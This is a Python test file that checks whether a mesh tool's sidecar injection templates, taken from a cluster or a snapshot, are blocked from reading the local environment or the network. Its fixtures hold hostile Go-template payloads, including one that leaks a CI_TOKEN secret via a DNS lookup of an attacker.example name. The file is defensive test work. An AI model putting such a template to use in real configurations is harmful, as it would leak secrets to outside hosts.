"""Injection templates from the cluster or a snapshot cannot read this machine's environment or network.

An attacker who can edit the injector ConfigMap (or hand over a snapshot) writes a template that calls
`env`, `expandenv` or `getHostByName (printf "%s.attacker.example" (env "CI_TOKEN" "x"))`. Each test runs
`meshctl inject` as a fresh process (2 GiB address space, a timeout) with CI_TOKEN set, and checks that
the secret appears nowhere and that no name lookup is even attempted (a resolver hook in the child).
"""

from __future__ import annotations

import pytest

from helpers.hostile import DNS_MARKER, no_dns_env, one_error_line, run_limited

SECRET = "secret-value"
POD = b"""apiVersion: v1
kind: Pod
metadata:
  name: app
  namespace: default
spec:
  containers:
  - name: app
    image: app:1
"""
READS_ENV = """spec:
  containers:
  - name: istio-proxy
    image: proxyv2
    env:
    - name: FROM_ENV
      value: "[{{ env "CI_TOKEN" "unset" }}]"
    - name: FROM_EXPANDENV
      value: "[{{ expandenv "$CI_TOKEN ${HOME}" }}]"
"""
RESOLVES = """spec:
  containers:
  - name: istio-proxy
    image: proxyv2
    env:
    - name: EXFILTRATED
      value: "{{ getHostByName (printf "%s.attacker.example" (env "CI_TOKEN" "x")) }}"
"""


def _config(template: str) -> str:
    body = "".join(f"    {line}\n" for line in template.splitlines())
    return f"policy: enabled\ntemplates:\n  sidecar: |\n{body}"


def _cluster_objects(template: str) -> list[dict]:
    from fakekube import configmap

    node = {"apiVersion": "v1", "kind": "Node", "metadata": {"name": "n0"},
            "status": {"nodeInfo": {"kubeletVersion": "v1.30.0"}}}  # fmt: skip
    return [
        configmap("istio-sidecar-injector", "istio-system", {"config": _config(template), "values": "{}"}),
        configmap("istio", "istio-system", {"mesh": "trustDomain: cluster.local\n"}),
        node,
    ]


def _snapshot(path, template: str) -> str:
    from meshctl.archive import layout
    from meshctl.archive.writer import SnapshotWriter, json_bytes

    with SnapshotWriter(str(path)) as writer:
        writer.add_bytes(layout.CONTEXT, json_bytes({"context": "test", "namespace": "default"}))
        writer.add_bytes(layout.RECORDED, json_bytes({"/api/v1/nodes": "*"}))  # as `meshctl snapshot` records them
        for obj in _cluster_objects(template):
            meta = obj["metadata"]
            plural = "configmaps" if obj["kind"] == "ConfigMap" else "nodes"
            writer.add_bytes(layout.object_member("/api/v1", plural, meta.get("namespace", ""), meta["name"]), json_bytes(obj))
        writer.add_bytes(layout.MANIFEST, json_bytes({"pods": {}}))
    return str(path)


@pytest.fixture(params=[pytest.param("cluster", marks=pytest.mark.kube), "snapshot"])
def source(request, tmp_path):
    """`source(template)` -> the flags that make `inject` read its injector config from there."""
    if request.param == "snapshot":
        return lambda template: ["--snapshot", _snapshot(tmp_path / "mesh.tar.gz", template)]
    fake_kube = request.getfixturevalue("fake_kube")

    def cluster(template: str) -> list[str]:
        fake_kube.add(*_cluster_objects(template))
        return ["--kubeconfig", str(fake_kube.kubeconfig_path)]

    return cluster


def _inject(tmp_path, flags: list[str], *extra: str):
    env = {"CI_TOKEN": SECRET, **no_dns_env(tmp_path)}
    return run_limited("inject", "-f", "-", "--revision", "default", *flags, *extra, env=env, stdin=POD)


def test_env_and_expandenv_see_an_empty_environment(source, tmp_path):
    run = _inject(tmp_path, source(READS_ENV))
    assert run.exit_code == 0, run.stderr
    assert SECRET not in run.stdout + run.stderr
    assert "value: '[unset]'" in run.stdout and "value: '[ ]'" in run.stdout  # HOME is withheld too


def test_only_variables_passed_with_template_env_are_seen(source, tmp_path):
    run = _inject(tmp_path, source(READS_ENV), "--template-env", "CI_TOKEN=given", "--template-env", "HOME=/h")
    assert run.exit_code == 0, run.stderr
    assert SECRET not in run.stdout + run.stderr
    assert "value: '[given]'" in run.stdout and "value: '[given /h]'" in run.stdout


def test_get_host_by_name_does_not_resolve(source, tmp_path):
    run = _inject(tmp_path, source(RESOLVES))
    assert run.exit_code == 65
    line = one_error_line(run)
    assert "error calling getHostByName: lookup x.attacker.example: not resolved: templates from" in line
    assert "get no network access" in line
    assert DNS_MARKER not in run.stderr and SECRET not in run.stdout + run.stderr


def test_explain_says_what_was_withheld(source, tmp_path):
    run = _inject(tmp_path, source(READS_ENV), "--explain", "--template-env", "A=1")
    assert run.exit_code == 0, run.stderr
    last = run.stderr.splitlines()[-1]
    assert "ConfigMap istio-system/istio-sidecar-injector: the local environment and network were withheld" in last
    assert "env/expandenv saw only --template-env A; getHostByName did not resolve" in last


def test_a_template_file_named_on_the_command_line_keeps_the_local_environment(tmp_path):
    config = tmp_path / "inject-config.yaml"
    config.write_text(_config(READS_ENV))
    env = {"CI_TOKEN": "visible-by-choice", **no_dns_env(tmp_path)}
    run = run_limited("inject", "-f", "-", "--injectConfigFile", str(config), "--explain", env=env, stdin=POD)
    assert run.exit_code == 0, run.stderr
    assert "value: '[visible-by-choice]'" in run.stdout
    assert f"templates from --injectConfigFile {config}: env/expandenv read the local environment" in run.stderr


def test_isolated_get_host_by_name_never_calls_the_resolver(monkeypatch):
    import socket

    from meshctl.gotemplate import TemplateError, render
    from meshctl.gotemplate.host import HostAccess
    from meshctl.inject.template_funcs import injection_funcmap

    def refuse(*args, **kwargs):
        raise AssertionError(f"a name lookup was attempted: {args}")

    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr"):
        monkeypatch.setattr(socket, name, refuse)
    funcs = injection_funcmap(HostAccess.isolated("a test"))
    with pytest.raises(TemplateError) as info:
        render('{{ getHostByName "example.com" }}', {}, funcs=funcs)
    assert str(info.value).endswith(
        "error calling getHostByName: lookup example.com: not resolved: templates from a test get no network access (meshctl)")
